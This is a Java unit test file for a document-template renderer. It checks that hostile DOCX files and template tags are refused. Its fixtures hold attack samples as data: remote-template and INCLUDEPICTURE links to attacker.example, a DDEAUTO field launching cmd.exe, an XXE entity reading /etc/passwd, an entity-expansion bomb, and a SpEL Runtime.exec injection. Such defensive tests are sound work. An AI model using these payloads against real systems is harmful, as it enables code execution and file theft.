package vn.thongsuot.document.rendering;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static vn.thongsuot.document.rendering.Docx.paragraph;

import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import vn.thongsuot.platform.error.RuleViolationException;
import vn.thongsuot.platform.i18n.Texts;

/** A template is a file from somebody: it must not run, fetch, swell or hide anything. */
class HostileTemplateTest {

    private static final String RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships";

    private final DocumentRenderer renderer = new DocumentRenderer();
    private final PdfConverter converter = new PdfConverter(new Texts());

    static Stream<Arguments> hostileFiles() {
        return Stream.of(
                file("macros", Docx.of(paragraph("x")).with("word/vbaProject.bin", "x")),
                file(
                        "macros",
                        Docx.of(paragraph("x"))
                                .with(
                                        "[Content_Types].xml",
                                        "<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>")),
                file("embedded-part", Docx.of(paragraph("x")).with("word/embeddings/oleObject1.bin", "x")),
                file("embedded-part", Docx.of(paragraph("x")).with("word/activeX/activeX1.xml", "<x/>")),
                file("embedded", Docx.of("<w:p><w:r><w:object/></w:r></w:p>")),
                file("embedded", Docx.of("<w:altChunk/>", paragraph("x"))),
                file(
                        "link",
                        Docx.of(paragraph("x"))
                                .with(
                                        "word/_rels/settings.xml.rels",
                                        "<Relationships xmlns=\"" + RELATIONSHIPS
                                                + "\"><Relationship Id=\"r1\" Type=\"attachedTemplate\" TargetMode=\"External\""
                                                + " Target=\"http://attacker.example/t.dotm\"/></Relationships>")),
                file(
                        "field-code",
                        Docx.of(
                                "<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe \"/k\" </w:instrText></w:r></w:p>")),
                file(
                        "field-code",
                        Docx.of("<w:p><w:fldSimple w:instr=\"INCLUDEPICTURE http://attacker.example/x\"/></w:p>")),
                file("shape", Docx.of("<w:p><w:r><w:pict/></w:r></w:p>")),
                file("shape", Docx.of("<w:p><w:r><w:drawing/></w:r></w:p>")),
                file("tracked-change", Docx.of("<w:p><w:ins><w:r><w:t>x</w:t></w:r></w:ins></w:p>")),
                file("comment", Docx.of("<w:p><w:r><w:commentReference/></w:r></w:p>")),
                file("note", Docx.of("<w:p><w:r><w:footnoteReference/></w:r></w:p>")),
                file(
                        "broken-part",
                        Docx.of()
                                .with(
                                        "word/document.xml",
                                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w=\"w\">&e;</w:document>")),
                file(
                        "broken-part",
                        Docx.of()
                                .with(
                                        "word/document.xml",
                                        "<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;\">]><w:document>&b;</w:document>")),
                file("broken-part", Docx.of().with("word/document.xml", "<w:document")),
                file("not-docx", Docx.of().with("word/document.xml", "<x/>")),
                file("too-large", Docx.of(paragraph("x")).with("word/media/zeros.bmp", new byte[17 * 1024 * 1024])),
                file("too-large", manyParts()));
    }

    @ParameterizedTest
    @MethodSource("hostileFiles")
    void a_hostile_file_is_refused_by_name_before_it_is_filled_or_printed(String reason, Docx docx) {
        assertThatThrownBy(() -> renderer.render(docx.bytes(), Map.of()))
                .isInstanceOfSatisfying(RuleViolationException.class, refused -> assertThat(
                                refused.violations().getFirst().messageKey())
                        .isEqualTo("document.template." + reason));
        assertThatThrownBy(() -> converter.toPdf(docx.bytes())).isInstanceOf(RuleViolationException.class);
    }

    @Test
    void a_file_that_is_no_archive_is_refused() {
        assertThat(new TemplateCheck().check(new byte[] {1, 2, 3}).faults())
                .extracting(TemplateFault::messageKey)
                .containsExactly("document.template.not-docx");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{T(java.lang.Runtime).getRuntime().exec('id')}}",
                "{{subject.getClass()}}",
                "{{#list.stream()}}x{{/list}}",
                "{{1+1}}",
                "{{name | upper}}",
                "{{${7*7}}}",
                "{{@bean}}",
                "{{../up}}"
            })
    void whatever_is_no_plain_name_is_refused(String tag) {
        assertThat(new TemplateCheck().check(Docx.of(paragraph(tag)).bytes()).faults())
                .extracting(TemplateFault::messageKey)
                .isNotEmpty()
                .allMatch(key -> key.endsWith("bad-name") || key.endsWith("broken-tag"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"{{subject.class}}", "{{subject.name.bytes}}", "{{on.chronology}}", "{{list.size}}"})
    void a_name_reaches_data_and_no_property_of_its_objects(String tag) {
        Map<String, Object> data = Map.of(
                "subject",
                Map.of("name", "Én"),
                "on",
                java.time.LocalDate.of(2026, 1, 1),
                "list",
                java.util.List.of(1));
        assertThatThrownBy(() -> renderer.render(Docx.of(paragraph(tag)).bytes(), data))
                .isInstanceOfSatisfying(RuleViolationException.class, refused -> assertThat(
                                refused.violations().getFirst().messageKey())
                        .isEqualTo("document.template.unknown-field"));
    }

    private static Arguments file(String reason, Docx docx) {
        return Arguments.of(reason, docx);
    }

    private static Docx manyParts() {
        Docx docx = Docx.of(paragraph("x"));
        for (int i = 0; i < 500; i++) {
            docx.with("word/media/" + i + ".png", "x");
        }
        return docx;
    }
}
